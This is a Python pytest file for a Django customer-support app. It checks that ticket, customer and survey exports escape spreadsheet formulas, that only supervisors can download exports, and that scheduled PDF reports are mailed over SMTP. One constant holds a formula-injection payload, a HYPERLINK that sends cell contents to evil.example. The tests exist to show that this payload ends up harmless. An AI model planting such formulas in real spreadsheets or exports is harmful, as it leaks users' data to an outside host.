"""Exports of tickets, customers and survey responses (safe in a spreadsheet), and
scheduled reports mailed through a real SMTP server."""

from __future__ import annotations

import csv
import datetime as dt
import io
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.test import override_settings
from django.utils import timezone
from openpyxl import load_workbook

from caredesk.accounts.enums import Role
from caredesk.accounts.factories import UserFactory
from caredesk.analytics.models import ScheduledReport
from caredesk.analytics.reports import next_run, report_save, reports_due
from caredesk.cli import main
from caredesk.core.errors import ValidationFailed
from caredesk.core.testing import signed_in
from caredesk.customers.services import customer_create
from caredesk.surveys.services import survey_response_record
from caredesk.tickets.factories import ticket_make

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def export(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["report", "export", *args])
    return result.exit_code, result.output


def test_tickets_customers_and_responses_export_with_formulas_as_text(tmp_path: Path) -> None:
    anna = customer_create(name="@Anna", emails=["anna@example.org"])
    ticket = ticket_make(requester=anna, subject=HOSTILE)
    survey_response_record(kind="csat", customer=anna, score=1, ticket=ticket,
                           responded_at=timezone.now(), comment="-1 for the wait")  # fmt: skip
    code, output = export("tickets", "--out", "-")
    assert code == 0, output
    header, row = list(csv.reader(io.StringIO(output.lstrip("\ufeff"), newline="")))
    assert header[:4] == ["id", "created_at", "subject", "status"]
    assert row[2] == "'" + HOSTILE
    assert row[7:9] == ["'@Anna", "anna@example.org"]
    code, _ = export("customers", "--format", "xlsx", "--out", str(tmp_path / "c.xlsx"))
    assert code == 0
    sheet = load_workbook(tmp_path / "c.xlsx").active
    assert sheet is not None
    values = next(iter(sheet.iter_rows(min_row=2, values_only=True)))
    assert values[1:5] == ("'@Anna", "anna@example.org", None, "potential")  # no organisation
    code, output = export("surveys", "--out", "-")
    assert "'-1 for the wait" in output
    today = timezone.localdate()
    later = (today + dt.timedelta(days=10)).isoformat()
    code, output = export("tickets", "--from", later, "--to", later, "--out", "-")
    assert output.strip("\ufeff\r\n").count("\n") == 0  # the header alone
    code, output = export("tickets", "--from", today.isoformat(), "--out", "-")
    assert code != 0
    assert "both --from and --to" in output


def test_supervisors_download_exports_from_the_dashboard() -> None:
    ticket_make(subject=HOSTILE)
    today = timezone.localdate().isoformat()
    url = f"/dashboard/export/?from={today}&to={today}&what=tickets"
    assert signed_in(UserFactory()).get(url + "&format=csv").status_code == 403
    boss = signed_in(UserFactory(role=Role.SUPERVISOR))
    page = boss.get(f"/dashboard/manager/?from={today}&to={today}").content.decode()
    assert "what=tickets&amp;format=xlsx" in page
    streamed = boss.get(url + "&format=csv")
    assert streamed["Content-Disposition"] == f'attachment; filename="tickets-{today}-{today}.csv"'
    assert ("'" + HOSTILE).replace('"', '""').encode() in b"".join(streamed.streaming_content)
    book = load_workbook(io.BytesIO(boss.get(url + "&format=xlsx").content))
    assert book.active["C2"].value == "'" + HOSTILE  # type: ignore[index]
    assert boss.get(url + "&format=pdf").status_code == 422


def test_a_scheduled_report_is_checked_and_runs_monday_morning_in_its_time_zone() -> None:
    with pytest.raises(ValidationFailed, match="not an email address"):
        report_save(report=None, data={"name": "Weekly", "recipients": "boss@example.org, nope"})
    with pytest.raises(ValidationFailed, match="Unknown time zone"):
        report_save(report=None, data={"name": "W", "recipients": "a@b.org", "tz": "Nowhere"})
    report = report_save(report=None, data={"name": "Weekly", "recipients": "a@b.org",
                                            "tz": "Europe/Berlin"})  # fmt: skip
    assert report.next_run_at is not None
    local = report.next_run_at.astimezone(dt.timezone(dt.timedelta(hours=1)))
    assert (local.weekday(), local.hour) == (0, 7)  # Monday 07:00 in Berlin (winter)
    monthly = ScheduledReport(frequency="monthly", tz="UTC")
    first = next_run(monthly, dt.datetime(2026, 1, 31, 12, tzinfo=dt.UTC))
    assert first == dt.datetime(2026, 2, 1, 7, tzinfo=dt.UTC)


def test_a_due_report_goes_out_once_as_a_pdf_through_smtp(smtp_server: Any) -> None:
    ticket_make()
    boss = signed_in(UserFactory(role=Role.SUPERVISOR))
    saved = boss.post("/manage/reports/", {"name": "Monthly KPIs", "recipients": "lead@example.org",
                                           "frequency": "monthly", "format": "pdf", "tz": "UTC",
                                           "active": "on"})  # fmt: skip
    assert saved.status_code in (200, 302)
    report = ScheduledReport.objects.get()
    ScheduledReport.objects.update(next_run_at=timezone.now() - dt.timedelta(minutes=1))
    smtp = {"EMAIL_BACKEND": "django.core.mail.backends.smtp.EmailBackend",
            "EMAIL_HOST": smtp_server.host, "EMAIL_PORT": smtp_server.port,
            "EMAIL_USE_TLS": False}  # fmt: skip
    with override_settings(**smtp):
        assert reports_due() == 1
        assert reports_due() == 0  # claimed: the next run is next month
    [envelope] = smtp_server.received
    assert envelope.rcpt_tos == ["lead@example.org"]
    mail = message_from_bytes(envelope.content, policy=policy.default)
    assert mail["Subject"].startswith("Monthly KPIs: ")
    [pdf] = list(mail.iter_attachments())
    assert pdf.get_content_type() == "application/pdf"
    assert pdf.get_content().startswith(b"%PDF")
    report.refresh_from_db()
    assert report.last_sent_at is not None
    assert report.last_error == ""
    # A server that refuses: the error is on the report, nothing raised.
    ScheduledReport.objects.update(next_run_at=timezone.now() - dt.timedelta(minutes=1))
    smtp_server.refuse = [554]
    with override_settings(**smtp):
        assert reports_due() == 0
    report.refresh_from_db()
    assert "554" in report.last_error
    page = boss.get("/manage/reports/").content.decode()
    assert "Monthly KPIs" in page
